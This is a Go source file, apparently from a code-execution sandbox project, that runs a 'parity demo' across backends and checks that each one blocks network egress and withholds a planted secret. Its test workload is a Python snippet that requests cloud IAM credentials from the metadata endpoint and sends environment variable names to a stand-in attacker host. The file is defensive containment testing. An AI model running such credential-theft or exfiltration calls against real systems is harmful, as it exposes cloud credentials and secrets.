@@ -1,0 +1,285 @@
+package demo
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"path/filepath"
+	"slices"
+	"strings"
+
+	"github.com/enclave-run/enclave"
+)
+
+// parityCode is the one workload of the parity demo.
+const parityCode = `import os, urllib.request
+try:
+    print(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read())
+except Exception as e:
+    print("metadata:", e)
+try:
+    print(urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ))).read())
+except Exception as e:
+    print("exfil:", e)
+enclave.result({"egressAttempted": True})
+`
+
+const attackerHost = "exfil.attacker.example"
+
+// Modes of the parity demo.
+const (
+	RealMulti     = "real:multi"
+	RealSingle    = "real:single"
+	bootMulti     = "boot:multi"
+	modeSimulator = "simulator"
+)
+
+// parityVerdict is what one target showed.
+type parityVerdict struct {
+	EgressDenied  bool     `json:"egressDenied"`
+	DeniedHosts   []string `json:"deniedHosts"`
+	TokenWithheld bool     `json:"tokenWithheld"`
+	Phase         string   `json:"phase"`
+}
+
+// A target is one control plane of the parity demo and what it showed.
+type target struct {
+	Label      string        `json:"label"`
+	BaseURL    string        `json:"baseUrl"`
+	Verdict    parityVerdict `json:"verdict"`
+	AuditTypes []string      `json:"auditTypes"`
+
+	problems []string // why it is not safe
+	shape    string   // what must be the same on all
+}
+
+type paritySummary struct {
+	Mode                  string   `json:"mode"`
+	Passed                bool     `json:"passed"`
+	Failures              []string `json:"failures"`
+	BackendCount          int      `json:"backendCount"`
+	Parity                bool     `json:"parity"`
+	DistinctVerdictShapes int      `json:"distinctVerdictShapes"`
+}
+
+type parityReport struct {
+	Summary  paritySummary `json:"summary"`
+	Backends []target      `json:"backends"`
+}
+
+// Parity runs one workload on every target and returns a *Failed unless each
+// contained it and all gave one verdict.
+func Parity(ctx context.Context, c Config) (err error) {
+	ctx, cancel := context.WithTimeout(ctx, maxDemo)
+	defer cancel()
+	shown := &Record{}
+	screen := &screen{w: io.MultiWriter(c.Out, shown), color: c.Color}
+	secrets, err := newBrokered()
+	if err != nil {
+		return err
+	}
+	mode, planes, err := c.targets(ctx)
+	defer func() {
+		for _, p := range planes {
+			err = errors.Join(err, p.Close(context.WithoutCancel(ctx)))
+		}
+	}()
+	if err != nil {
+		return err
+	}
+	r := parityReport{Summary: paritySummary{Mode: mode, Failures: []string{}, BackendCount: len(planes)}, Backends: []target{}}
+	for _, p := range planes {
+		t, err := judgeTarget(ctx, p, secrets)
+		if err != nil {
+			return fmt.Errorf("%s at %s: %w", p.Label, p.BaseURL, err)
+		}
+		r.Backends = append(r.Backends, t)
+	}
+	r.judge()
+	screen.parity(r)
+	written, err := writeEvidence(c.Evidence, "backend-parity", r, r.markdown())
+	if err != nil {
+		return err
+	}
+	if leak := secrets.leak(append(written, surface{"the demo's own output", shown.Bytes()})); leak != "" {
+		r.Summary.Failures, r.Summary.Passed = append(r.Summary.Failures, leak), false
+		screen.line("✗ ", screen.paint(boldRed, "SECRET LEAKED"), "  ", Visible(leak))
+	}
+	screen.line(Visible("evidence written to " + filepath.Join(c.Evidence, "backend-parity-report") + ".{json,md}"))
+	if screen.err != nil {
+		return screen.err
+	}
+	if !r.Summary.Passed {
+		return &Failed{r.Summary.Failures}
+	}
+	return nil
+}
+
+// targets returns the control planes to compare. Those it returns are closed
+// by the caller, also after an error.
+func (c *Config) targets(ctx context.Context) (mode string, planes []*Plane, err error) {
+	if len(c.Remotes) > 0 {
+		for _, r := range c.Remotes {
+			planes = append(planes, NewPlane(r.Label, r.BaseURL, r.APIKey, r.Token))
+		}
+		return c.Mode, planes, nil
+	}
+	mode = bootMulti
+	backends, labels := c.Backends, c.Backends
+	if len(backends) == 0 || backends[0] == Modelled {
+		// Two models show the shape of a verdict, and nothing about kernels.
+		mode, backends, labels = modeSimulator, []string{Modelled, Modelled}, []string{"simulator-a", "simulator-b"}
+	}
+	for i, b := range backends {
+		p, err := c.Boot(ctx, Boot{Backend: b})
+		if err != nil {
+			return mode, planes, fmt.Errorf("boot %s: %w", b, err)
+		}
+		p.Label = labels[i]
+		planes = append(planes, p)
+	}
+	return mode, planes, nil
+}
+
+// judgeTarget runs the workload on p.
+func judgeTarget(ctx context.Context, p *Plane, secrets brokered) (target, error) {
+	if p.Inside != nil {
+		if err := secrets.plant(p.Inside.Vault); err != nil {
+			return target{}, err
+		}
+	}
+	s, err := watch(ctx, p, request(parityCode))
+	if err != nil {
+		return target{}, err
+	}
+	more, err := publicSurfaces(ctx, p)
+	if err != nil {
+		return target{}, err
+	}
+	t := judgeSeen(s, secrets.leak(append(s.surfaces, more...)))
+	t.Label, t.BaseURL = p.Label, p.BaseURL
+	if _, err := p.Client.Teardown(ctx, s.session.ID); err != nil {
+		return target{}, err
+	}
+	return t, nil
+}
+
+// judgeSeen says what one target showed, and what of it is not safe.
+func judgeSeen(s seen, leak string) target {
+	t := target{AuditTypes: s.types(), Verdict: parityVerdict{
+		DeniedHosts: s.denied(), TokenWithheld: leak == "", Phase: string(s.session.Phase),
+	}}
+	v := &t.Verdict
+	v.EgressDenied = slices.Contains(v.DeniedHosts, metadataHost) && slices.Contains(v.DeniedHosts, attackerHost) &&
+		len(s.hosts("egress_allowed")) == 0
+	var r struct {
+		EgressAttempted bool `json:"egressAttempted"`
+	}
+	_ = json.Unmarshal(s.result.JSON, &r) // what is not the object is not an attempt
+	add := func(bad bool, format string, args ...any) {
+		if bad {
+			t.problems = append(t.problems, fmt.Sprintf(format, args...))
+		}
+	}
+	add(!v.EgressDenied, "egress NOT fully denied [%s]", hostList(v.DeniedHosts))
+	add(leak != "", "SECRET LEAKED: %s", leak)
+	add(s.session.Phase != enclave.Succeeded, "phase %s, not succeeded", s.session.Phase)
+	add(!r.EgressAttempted, "the workload never reached its end (%s)", lastLine(s.result.Stderr))
+	if err := s.order(); err != nil {
+		add(true, "%v", err)
+	}
+	t.shape = s.shape(*v)
+	return t
+}
+
+// Of an event's data, these differ between two runs of one request: who asked
+// by what key, and what ran it. Usage is compared by its keys alone.
+var (
+	identities = []string{"caller", "backend", "isolation", "image", "modelled"}
+	usage      = []string{"cpuSeconds", "wallSeconds", "peakMemoryBytes", "bytesIn", "bytesOut"}
+)
+
+// shape returns everything about a session that must be the same on every
+// backend: the verdict, hosts as a set, and the events in their order with
+// their data.
+func (s seen) shape(v parityVerdict) string {
+	v.DeniedHosts = slices.Clone(v.DeniedHosts)
+	slices.Sort(v.DeniedHosts)
+	events := []any{v, s.result.JSON}
+	for _, e := range s.events {
+		var data map[string]any
+		if err := json.Unmarshal(e.Data, &data); err != nil {
+			data = map[string]any{"undecodable": string(e.Data)}
+		}
+		for _, k := range identities {
+			delete(data, k)
+		}
+		for _, k := range usage {
+			if _, ok := data[k]; ok {
+				data[k] = "measured"
+			}
+		}
+		events = append(events, e.Type, data)
+	}
+	raw, err := json.Marshal(events) // maps are sorted by key
+	if err != nil {
+		return err.Error()
+	}
+	return string(raw)
+}
+
+// judge compares the targets.
+func (r *parityReport) judge() {
+	var shapes []string
+	for _, t := range r.Backends {
+		shapes = append(shapes, t.shape)
+		for _, p := range t.problems {
+			r.Summary.Failures = append(r.Summary.Failures, t.Label+": "+p)
+		}
+	}
+	slices.Sort(shapes)
+	r.Summary.DistinctVerdictShapes = len(slices.Compact(shapes))
+	r.Summary.Parity = r.Summary.DistinctVerdictShapes == 1
+	if !r.Summary.Parity {
+		r.Summary.Failures = append(r.Summary.Failures, fmt.Sprintf("backends disagreed — %d distinct verdict shapes across %d backends",
+			r.Summary.DistinctVerdictShapes, r.Summary.BackendCount))
+	}
+	r.Summary.Passed = len(r.Summary.Failures) == 0
+}
+
+func hostList(hosts []string) string {
+	if len(hosts) == 0 {
+		return "none"
+	}
+	return strings.Join(hosts, ", ")
+}
+
+// markdown returns the report as a table for people.
+func (r parityReport) markdown() []byte {
+	var b bytes.Buffer
+	word := "passed"
+	if !r.Summary.Passed {
+		word = "FAILED"
+	}
+	fmt.Fprintf(&b, "# Backend parity: %s\n\n", word)
+	fmt.Fprintf(&b, "Mode %s · %d backends · %d distinct verdict shapes.\n\n", r.Summary.Mode, r.Summary.BackendCount, r.Summary.DistinctVerdictShapes)
+	if r.Summary.Mode == modeSimulator {
+		b.WriteString("The simulator executes no code: this compares the shape of verdicts, not kernels.\n\n")
+	}
+	b.WriteString("| Backend | Control plane | Egress denied | Denied hosts | Secret withheld | Phase |\n|---|---|---|---|---|---|\n")
+	yes := map[bool]string{true: "yes", false: "NO"}
+	for _, t := range r.Backends {
+		fmt.Fprintf(&b, "| %s | %s | %s | %s | %s | %s |\n", cell(t.Label), cell(t.BaseURL), yes[t.Verdict.EgressDenied],
+			cell(hostList(t.Verdict.DeniedHosts)), yes[t.Verdict.TokenWithheld], cell(t.Verdict.Phase))
+	}
+	for i, f := range r.Summary.Failures {
+		if i == 0 {
+			b.WriteString("\nFailures:\n\n")
+		}
+		fmt.Fprintf(&b, "- %s\n", cell(f))
+	}
+	return b.Bytes()
+}
